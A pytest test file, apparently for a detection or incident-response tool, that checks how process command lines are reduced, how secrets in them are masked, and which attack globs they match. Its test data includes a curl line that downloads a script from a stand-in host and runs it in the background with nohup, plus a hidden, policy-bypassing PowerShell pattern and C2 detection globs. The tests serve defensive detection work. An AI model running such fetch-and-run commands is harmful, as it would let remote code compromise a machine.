"""Command lines reduced: what is told, what never is, and which lines a glob means."""

from __future__ import annotations

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from pratique.ecosystems.arguments import reduced, reduced_line, told

CURL = "*curl -o /tmp/ld.py -d files[.]standin[.]test/product2 -s *"
POWERSHELL = r"*-w hidden -ep bypass -file *\4202033.ps1*"
LINE = "curl -o /tmp/ld.py -d files.standin.test/product2 -s http://192.0.2.1:8000/4202033"


@pytest.mark.parametrize(
    ("word", "shown"),
    [
        ("--token=abc", "--token=…"),
        ("--config=/etc/x.json", "--config=/etc/x.json"),
        ("-p", "-p"),
        ("-pSecret", "-p…"),
        ("hunter2", "…"),
        ("/opt/app/run.sh", "/opt/app/run.sh"),
        ("/hooks/T012ABCDEF/xoxb0123456789abcdefghij", "/hooks/T012ABCDEF/…"),
        ("postgres://me:pw@db.test:5432/shop", "postgres://db.test:5432/…"),
        ("https://host.test/services/T0/B0/xyz", "https://host.test/…"),
        ("server.mjs", "server.mjs"),
        ("C:\\Users\\dev\\run.ps1", "C:\\Users\\dev\\run.ps1"),
        ("AKIAIOSFODNN7EXAMPLE", "…"),
        ("KEY=value", "…"),
    ],
)
def test_a_word_is_told_or_not(word: str, shown: str) -> None:
    assert told(word) == shown


@pytest.mark.parametrize(
    "argv",
    [
        LINE.split(),
        ["/bin/sh", "-c", f"{LINE} && nohup python3 /tmp/ld.py http://192.0.2.1:8000/ > /dev/null 2>&1 &"],
        ["sudo", "-u", "dev", "/usr/bin/curl", *LINE.split()[1:]],
        ["bash", "-lc", f"sh -c '{LINE}'"],
    ],
)
def test_the_command_that_a_glob_means_matches(argv: list[str]) -> None:
    assert reduced(argv, "/", [CURL]).matched == (CURL,)


@pytest.mark.parametrize(
    "argv",
    [
        ["grep", "-r", LINE, "/var/log"],
        ["rg", *LINE.split()],
        ["sh", "-c", f"ps aux | grep '{LINE}'"],
        ["vim", LINE],
        ["git", "commit", "-m", LINE],
        ["python3", "-m", "pratique", "host", "--bad", LINE],
        ["echo", *LINE.split()],
        ["curl", "-o", "/tmp/build.py", "-d", "files.standin.test/product2", "-s", "http://192.0.2.1/"],
    ],
)
def test_who_only_names_the_line_does_not(argv: list[str]) -> None:
    assert reduced(argv, "/", [CURL]).matched == ()


def test_a_glob_that_starts_with_an_option_matches_any_program_that_does_not_look_for_text() -> None:
    argv = ["C:\\ProgramData\\wt.exe", "-w", "hidden", "-ep", "bypass", "-file", "C:\\T\\4202033.ps1", "http://x.test"]
    assert reduced(argv, None, [POWERSHELL]).matched == (POWERSHELL,)
    assert reduced(["findstr", *argv[1:]], None, [POWERSHELL]).matched == ()
    assert reduced(argv, None, known="powershell").script == "C:/T/4202033.ps1"


@pytest.mark.parametrize(
    ("argv", "script"),
    [
        (["python3", "-u", "/tmp/ld.py", "http://x.test"], "/tmp/ld.py"),
        (["python3", "ld.py"], "/home/dev/ld.py"),
        (["/usr/bin/python3.12", "../tmp/./ld.py"], "/home/tmp/ld.py"),
        (["node", "--require", "/x/y.js", "/srv/app.js"], "/srv/app.js"),
        (["osascript", "/tmp/4202033"], "/tmp/4202033"),
        (["cscript", "//nologo", "C:\\T\\4202033.vbs"], "C:/T/4202033.vbs"),
        (["bun", "run", "/a/router_init.js"], "/a/router_init.js"),
        (["python3", "-c", "import os"], None),
        (["python3", "-m", "http.server"], None),
        (["cat", "/tmp/ld.py"], None),
        (["sha256sum", "/tmp/ld.py"], None),
        (["bash", "secretword"], None),
    ],
)
def test_the_script_of_an_interpreter(argv: list[str], script: str | None) -> None:
    assert reduced(argv, "/home/dev").script == script


def test_a_package_managers_command_keeps_its_packages() -> None:
    assert reduced(["npm install axios@1.14.1"], "/").words == ("install", "axios@1.14.1")
    assert reduced(["npm install axios@1.14.1"], "/").programs == ("npm",)
    assert reduced(["/usr/bin/node", "/usr/lib/node_modules/npm/bin/npm-cli.js", "ci"], "/").programs == ("node", "npm")


def test_a_line_of_a_unit_gives_programs_files_and_hosts() -> None:
    found = reduced_line(
        "/usr/bin/env TOKEN=abc /home/dev/.local/bin/gh-token-monitor.sh --key s3cret https://u:p@h.test/x"
    )
    assert (found.programs, found.files, found.hosts) == (
        ("gh-token-monitor.sh",),
        ("/home/dev/.local/bin/gh-token-monitor.sh",),
        ("h.test",),
    )


def test_a_very_long_line_is_cut_and_says_so() -> None:
    found = reduced(["sh", "-c", "x" * (3 << 20)], "/", [CURL])
    assert found.cut
    assert found.matched == ()


@settings(max_examples=200, deadline=None)
@given(st.lists(st.text(max_size=40), max_size=12))
def test_any_arguments_are_reduced(argv: list[str]) -> None:
    found = reduced(argv, "/x", [CURL, POWERSHELL])
    assert len(found.words) <= 60


@settings(max_examples=200, deadline=None)
@given(
    st.from_regex(r"[A-Za-z0-9+][A-Za-z0-9+/]{24,60}", fullmatch=True),
    st.sampled_from(["{}", "--key={}", "-p{}", "K={}"]),
)
def test_no_long_token_is_told(secret: str, shape: str) -> None:
    found = reduced(["server", shape.format(secret)], "/x")
    assert not any(secret in word for word in found.words)


def test_a_start_up_file_of_many_commands_is_told_whole() -> None:
    found = reduced_line("\n".join(f"alias a{number}=b\n/opt/{number}/run.sh" for number in range(500)))
    assert not found.cut
    assert len(found.files) == 500
    assert reduced_line("\n".join(f"/opt/{number}/run.sh" for number in range(5000))).cut


@pytest.mark.parametrize(
    "argv",
    [
        ["vim", "/tmp/ld.py"],
        ["less", "+F", "/tmp/ld.py"],
        ["code", "/tmp/ld.py"],
        ["scp", "/tmp/ld.py", "evidence:"],
        ["sha256sum", "/tmp/ld.py"],
        ["ssh", "dev@box", "python3 /tmp/ld.py"],
        ["bash", "-c", "cat <<E\npython3 /tmp/ld.py\nE"],
        ["bash", "-c", "grep -r 'python3 /tmp/ld.py' /var/log"],
        ["python3", "-c", "import os; os.stat('/tmp/ld.py')"],
        ["python3", "-m", "json.tool", "/tmp/ld.py"],
        ["strace", "-p", "1", "-o", "/tmp/ld.py"],
        ["dig", "c2.standin.test"],
        ["tcpdump", "-i", "any", "host", "192.0.2.7"],
        ["nft", "add", "rule", "ip", "daddr", "192.0.2.7", "drop"],
        ["journalctl", "-f", "--grep", "c2.standin.test"],
    ],
)
def test_who_looks_into_an_incident_runs_no_script_of_it_and_is_told_no_host(argv: list[str]) -> None:
    found = reduced(argv, "/home/dev", ["*python3 /tmp/ld.py*", "*c2[.]standin[.]test*", "*192.0.2[.]7*"])
    assert (found.script, found.hosts) == (None, ())
    assert found.programs[-1] not in ("ld.py", "python3 /tmp/ld.py")


def test_a_page_about_an_incident_is_no_host_of_it() -> None:
    found = reduced(["firefox", "https://reports.example/domain/c2.standin.test"], "/", ())
    assert found.hosts == ("reports.example",)


RUNS = "*python3 /tmp/ld.py*"


@pytest.mark.parametrize(
    ("code", "wanted"),
    [
        ("cat <<E\npython3 /tmp/ld.py\nE", False),
        ("cat > note <<'END'\npython3 /tmp/ld.py\nEND\nsleep 60", False),
        ("sleep 1; tee note <<-E\n\tpython3 /tmp/ld.py\n\tE\nsleep 60", False),
        ("cat <<E\nx\nE\npython3 /tmp/ld.py", True),
        ("cat <<E | sh\npython3 /tmp/ld.py\nE", True),
        ("sh <<E\npython3 /tmp/ld.py\nE", True),
        ("cat '<<E'\npython3 /tmp/ld.py\nE", True),
        ('cat "x <<E"\npython3 /tmp/ld.py\nE', True),
        ("cat x # <<E\npython3 /tmp/ld.py\nE", True),
        ("cat <<<E\npython3 /tmp/ld.py\nE", True),
        ("cat \\<<E\npython3 /tmp/ld.py\n", True),
        ("cat <<E\npython3 /tmp/ld.py", True),
        ("python3 /tmp/ld.py <<E\nx\nE", True),
    ],
)
def test_the_text_of_a_here_document_is_run_by_a_shell_alone(code: str, wanted: bool) -> None:
    assert bool(reduced(["bash", "-c", code], "/", [RUNS]).matched) is wanted


def test_many_here_documents_end() -> None:
    for code in ("cat <<E\n" * 100_000, "cat " + "<<E " * 200_000, "cat <<E\nE\n" * 90_000):
        assert reduced(["bash", "-c", code], "/", [RUNS]).matched == ()
